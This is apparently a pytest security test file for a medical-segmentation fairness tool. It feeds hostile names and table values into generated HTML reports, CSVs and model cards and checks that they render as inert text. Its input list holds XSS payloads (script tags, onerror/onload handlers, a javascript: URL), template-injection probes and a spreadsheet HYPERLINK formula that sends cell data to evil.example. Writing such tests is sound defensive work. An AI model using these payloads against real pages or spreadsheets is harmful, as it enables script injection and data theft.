"""Texts that other people wrote stay text: in every field, in every page, in a real browser."""

from __future__ import annotations

import json
import re

import numpy as np
import pandas as pd
import pytest
import SimpleITK as sitk

from nnunet_fair.cli import main
from nnunet_fair.sharing.model_card import CardRecords, model_card, plain_markdown
from nnunet_fair.subgroups.disclosure import publishable_groups

HACK = "document.title='hacked'"
IN_TABLES = (
    f"<script>{HACK}</script>",
    f'</script></style></title><img src=x onerror="{HACK}">',
    f"'\"><svg/onload={HACK}>",
    "{{ 7*191 }}{% raise %}${7*191}#{7*191}",
    "$x_{1$ $\\frac{a$",
    '=HYPERLINK("http://evil.example/"&A1)',
    f"javascript:{HACK}//[x](http://evil.example)![y](http://evil.example/y.png)",
    "\u202egnp.txt\u202c \u2066👩‍⚕️🏥",
    "ä" * 400,
)
"""Values, and names, that people may have in a table; a break of line is asked for where it may stand."""
IN_NAMES = tuple(text.replace("/", "∕") for text in IN_TABLES[:8])
"""Names of files: anything but a slash."""


def save(array: np.ndarray, path) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    sitk.WriteImage(sitk.GetImageFromArray(array.astype(np.uint8)), str(path))


@pytest.fixture
def hostile(tmp_path, monkeypatch):
    """Eighteen cases whose names, folders, classes, attributes and groups are hostile; two of them damaged."""
    root = tmp_path / f"folder {IN_NAMES[1]}"
    for variable in ("nnUNet_raw", "nnUNet_preprocessed", "nnUNet_results"):
        (root / variable).mkdir(parents=True)
        monkeypatch.setenv(variable, str(root / variable))
    raw = root / "nnUNet_raw" / "Dataset950_H"
    names = [f"{IN_NAMES[i % len(IN_NAMES)]}{i:02d}" for i in range(18)]
    for i, name in enumerate(names):
        reference = np.zeros((4, 12, 12))
        reference[1:3, 3:9, 3:9] = 1
        reference[1:3, 4:6, 4:6] = 2
        for folder, array in (("labelsTr", reference), ("a", np.roll(reference, i % 4, 2)), ("b", reference)):
            save(array, (raw if folder == "labelsTr" else root) / folder / f"{name}.nii.gz")
    (root / "a" / f"{names[3]}.nii.gz").write_bytes(b"damaged")
    labels = {"background": 0, IN_TABLES[0]: 1, IN_TABLES[1] + "\n": 2}
    dataset = {"channel_names": {"0": IN_TABLES[2]}, "labels": labels, "numTraining": 18, "file_ending": ".nii.gz"}
    (raw / "dataset.json").write_text(json.dumps(dataset))
    table = pd.DataFrame({"case_id": names})
    for k in range(3):
        table["".join(IN_TABLES[3 * k : 3 * k + 3])] = [IN_TABLES[3 * k + i % 3] for i in range(18)]
    table.to_csv(raw / "fair_cases.csv", index=False)
    table["two\nlines"] = ["a\nb", "c\r\nd"] * 9
    table.assign(pcr=[0, 1] * 9).to_json(root / "table.json", orient="records")
    predicted = pd.DataFrame({"case_id": names, "probability": np.linspace(0.2, 0.8, 18)})
    predicted.to_json(root / "predicted.json", orient="records")
    return root, raw, table


def check(page, *texts: str) -> None:
    """Nothing ran, nothing was asked for, and the texts are there to be read."""
    assert page.errors == []
    assert page.requests == []
    assert page.evaluate("document.title") != "hacked"
    assert page.evaluate("document.querySelectorAll('[onerror], [onload], img[src=x]').length") == 0
    shown = " ".join(page.evaluate("document.body.textContent").split())
    for text in texts:
        assert " ".join(text.split()) in shown, text
    assert "1337" not in shown  # 7 * 191: a template in a text was filled
    page.close()


@pytest.mark.slow
def test_pages_show_hostile_texts_and_do_nothing_else(hostile, browser, capsys):
    root, raw, table = hostile
    attributes = list(table.columns[1:])
    files = ["-ref", str(raw / "labelsTr"), "-m", str(root / "table.json"), "-np", "1", "--resamples", "40"]
    files += ["--variables", *attributes[:2], "--attributes", *attributes[2:]]
    files += ["--overlays", "1", "--min-group", "1", "--max-items", "1", "--title", IN_TABLES[1]]
    files += ["--dataset-json", str(raw / "dataset.json")]
    assert main(["evaluate", *files, "-pred", str(root / "a"), "-o", str(root / "e")]) == 1  # one case is damaged
    names = ["--name-a", IN_TABLES[0], "--name-b", IN_TABLES[1]]
    assert main(["compare", *files, "-a", str(root / "a"), "-b", str(root / "b"), "-o", str(root / "c"), *names]) == 1
    assert main(["audit", "-d", "950", "-o", str(root / "f")]) == 0
    said = capsys.readouterr()
    assert "Traceback" not in said.err and "wrote cases.csv" in said.out and "wrote comparison.json" in said.out, (
        said.err
    )
    check(browser.load(root / "e" / "report.html"), IN_TABLES[1], *attributes, *IN_TABLES, table["case_id"][3])
    check(browser.load(root / "c" / "report.html"), IN_TABLES[1], *attributes, *IN_TABLES, table["case_id"][3])
    check(browser.load(root / "f" / "audit.html"), *attributes[:-1], *IN_TABLES)
    for path in [*(root / "e").glob("*.csv"), *(root / "c").glob("*.csv"), root / "f" / "audit.csv"]:
        cells = pd.read_csv(path, dtype=str, keep_default_na=False, header=None)
        assert not cells.map(lambda cell: cell.startswith(("=HYPERLINK", "@", "+"))).any(axis=None), path


def card(table: pd.DataFrame) -> str:
    """A model card in which every text that people gave is hostile."""
    groups = table.set_index("case_id")
    published = publishable_groups(groups)
    dataset = {
        "numTraining": 18,
        "labels": {"background": 0, IN_TABLES[1]: 1, "a\n# b": 2},
        "channel_names": {"0": IN_TABLES[6]},
    }
    records = CardRecords(
        name=IN_TABLES[0],
        configuration="3d_fullres",
        trained_with=IN_TABLES[5],
        shipped_as="nnUNetTrainer",
        folds=(0,),
        epochs=(5,),
        n_parameters=10,
        dataset=dataset,
        plans={"plans_name": IN_TABLES[2], "configurations": {"3d_fullres": {}}, "nnunet_fair": {"x": IN_TABLES[6]}},
        postprocessing=None,
        scores=None,
        missing_validation=(),
        n_unscored=0,
        groups=published,
    )
    return model_card(records)


def test_a_text_in_markdown_is_text():
    for text in (*IN_TABLES, "a\nb\r\n\x85\u2028# c", "`x` *y* | z"):
        plain = plain_markdown(text)
        assert "\n" not in plain and "\u2028" not in plain and "\u202e" not in plain
        left = re.sub(r"\\[\\`*\[\]|#]|&(amp|lt|gt|#36|#126);", "", plain)  # what stands there escaped
        assert not set(left) & set("<>&[]`*|$~#\\"), plain
    assert plain_markdown("age 41-50, Site_A") == "age 41-50, Site_A"


@pytest.mark.slow
def test_pages_of_task_2_do_so_too(hostile, browser):
    root, _, table = hostile
    attributes = list(table.columns[1:])
    files = ["-m", str(root / "table.json"), "--variables", *attributes[:2], "--attributes", *attributes[2:]]
    files += ["--task", "pcr", "--resamples", "40", "--min-group", "1", "--title", IN_TABLES[1]]
    predicted = str(root / "predicted.json")
    assert main(["evaluate", *files, "-pred", predicted, "-o", str(root / "g")]) == 0
    names = ["--name-a", IN_TABLES[0], "--name-b", IN_TABLES[1]]
    assert main(["compare", *files, "-a", predicted, "-b", predicted, "-o", str(root / "h"), *names]) == 0
    check(browser.load(root / "g" / "report.html"), *attributes, *IN_TABLES)
    check(browser.load(root / "h" / "report.html"), *attributes, *IN_TABLES)


@pytest.mark.slow
def test_the_model_card_is_text_in_a_page(hostile, browser, tmp_path):
    markdown = pytest.importorskip("markdown", reason="the model card is shown by Python-Markdown (the extra docs)")
    text = card(hostile[2])
    page = tmp_path / "card.html"
    body = markdown.markdown(text, extensions=["tables"])
    page.write_text(f"<!doctype html><meta charset=utf-8><title>card</title>{body}", encoding="utf-8")
    loaded = browser.load(page)
    assert loaded.evaluate("document.querySelectorAll('a, img, script, svg, h1').length") == 1  # the title
    check(loaded, IN_TABLES[0], IN_TABLES[1], IN_TABLES[2])
